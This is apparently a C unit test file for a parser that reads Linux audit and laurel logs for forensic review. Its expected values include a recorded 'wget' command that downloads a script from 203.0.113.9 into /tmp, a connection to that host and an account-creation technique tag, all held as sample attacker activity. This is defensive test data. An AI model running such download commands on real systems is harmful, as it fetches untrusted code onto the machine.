/* test_artefact_audit.c - the audit log: records of one serial number joined, hex decoded, damage. */
#include "tests/artefact_harness.h"

static void
records_of_one_serial_are_one_event(void **state)
{
	struct parsed p = { 0 };
	(void)state;
	parsed_file(&p, fixture("artefact/audit/audit.log"));
	assert_number_equal(p.count, 5);
	assert_number_equal(p.remark_count, 0);
	const struct parsed_event *e = &p.events[0];
	assert_number_equal(e->time, parsed_time("2023-11-14T22:13:20.123Z"));
	assert_string_equal(e->message, "beheer ran: wget -O /tmp/a b.sh http://203.0.113.9/x (/usr/bin/wget)");
	assert_string_equal(e->user, "beheer");
	assert_string_equal(e->meaning, "command run");
	assert_non_null(strstr(e->data, "\"arguments\":[\"wget\",\"-O\",\"/tmp/a b.sh\",\"http://203.0.113.9/x\"]"));
	assert_non_null(strstr(e->data, "\"proctitle\":\"wget -O /tmp/a b.sh\""));
	assert_non_null(strstr(e->data, "\"cwd\":\"/root\""));
	assert_non_null(strstr(e->data, "\"syscall_name\":\"execve\""));
	assert_non_null(strstr(e->data, "\"path_name\":\"/usr/bin/wget\""));
	assert_non_null(strstr(e->data, "PATH: item=1 name=\\\"/lib64/ld-linux-x86-64.so.2\\\""));
	assert_string_equal(p.events[1].host, "files");
	assert_string_equal(p.events[1].technique, "T1136.001");
	assert_string_equal(p.events[2].meaning, "failed logon");
	assert_string_equal(p.events[2].user, "root");
	assert_non_null(strstr(p.events[3].data, "\"address\":\"203.0.113.9\",\"port\":8080"));
	assert_string_equal(p.events[4].meaning, "refused");
	assert_non_null(strstr(p.events[4].data, "\"decision\":\"denied read\""));
	parsed_free(&p);
}

static void
damaged_lines_are_told(void **state)
{
	struct parsed p = { 0 };
	(void)state;
	parsed_file(&p, fixture("artefact/audit/damaged.log"));
	/* the times 0 and 99999999999 are no events */
	assert_number_equal(p.count, 3);
	assert_number_equal(p.remark_count, 4);
	assert_string_equal(p.remarks[0].code, "line-damaged");
	parsed_free(&p);
}

static void
the_corpus_is_read(void **state)
{
	struct parsed p = { 0 };
	(void)state;
	if (!parsed_corpus(&p, "logs/audit_enriched.log"))
		return;
	/* 29 records of 12 serial numbers */
	assert_number_equal(p.count, 12);
	assert_number_equal(parsed_with(&p, "\"serial\":485"), 1);
	assert_number_equal(parsed_with(&p, "\"ppid\":\"2176\",\"pid\":\"2219\""), 1);
	parsed_free(&p);
	parsed_file(&p, corpus_path("logs/selinux.log"));
	/* 7 records that are sound; the last two are one event */
	assert_number_equal(p.count, 6);
	assert_number_equal(p.remark_count, 4);
	assert_number_equal(p.events[0].time, parsed_time("2012-05-24T07:40:01.174Z"));
	parsed_free(&p);
}

static void
events_as_laurel_writes_them(void **state)
{
	struct parsed p = { 0 };
	(void)state;
	parsed_file(&p, fixture("artefact/audit/laurel.log"));
	assert_string_equal(p.kind->name, "audit");
	assert_number_equal(p.count, 3);
	assert_number_equal(p.remark_count, 0);
	assert_number_equal(p.events[0].time, parsed_time("2023-11-14T22:13:20.123Z"));
	assert_string_equal(p.events[0].meaning, "command run");
	assert_string_equal(p.events[0].message, "anna ran: wget -O /tmp/a \"b.sh (/usr/bin/wget)");
	assert_non_null(strstr(p.events[0].data, "\"arguments\":[\"wget\",\"-O\",\"/tmp/a \\\"b.sh\"]"));
	assert_non_null(strstr(p.events[0].data, "\"proctitle\":\"wget -O /tmp/a b.sh\""));
	assert_non_null(strstr(p.events[0].data, "\"path_name\":\"/usr/bin/wget\""));
	assert_non_null(strstr(p.events[0].data, "\"auid_name\":\"anna\""));
	assert_string_equal(p.events[1].meaning, "failed logon");
	assert_string_equal(p.events[1].host, "files");
	assert_non_null(strstr(p.events[2].data, "\"address\":\"203.0.113.9\",\"port\":8080"));
	parsed_free(&p);
	parsed_file(&p, fixture("artefact/audit/laurel-damaged.log"));
	/* of the line that is cut what came is told; those without a time or an identifier are not */
	assert_number_equal(p.count, 5);
	assert_true(parsed_has_remark(&p, "line-damaged"));
	assert_number_equal(p.remark_count, 4);
	parsed_free(&p);
}

/* A value beyond what is kept is said to be missing. */
static void
a_long_value_of_laurel_is_told(void **state)
{
	struct parsed p = { 0 };
	SCOPED_BUF b;
	(void)state;
	buf_init(&b, 1 << 20);
	for (int i = 0; i < 2; i++)
		buf_format(&b, "{\"ID\":\"1700000000.001:%d\",\"SYSCALL\":{\"comm\":\"a\",\"exe\":\"%0*d\"}}\n", i + 1, i == 0 ? 9 : 40000, 0);
	parsed_bytes(&p, "/audit.log", buf_cstr(&b), b.size);
	assert_number_equal(p.count, 2);
	assert_number_equal(p.remark_count, 1);
	assert_string_equal(p.remarks[0].code, "line-damaged");
	parsed_free(&p);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(records_of_one_serial_are_one_event),
		cmocka_unit_test(damaged_lines_are_told),
		cmocka_unit_test(the_corpus_is_read),
		cmocka_unit_test(events_as_laurel_writes_them),
		cmocka_unit_test(a_long_value_of_laurel_is_told),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
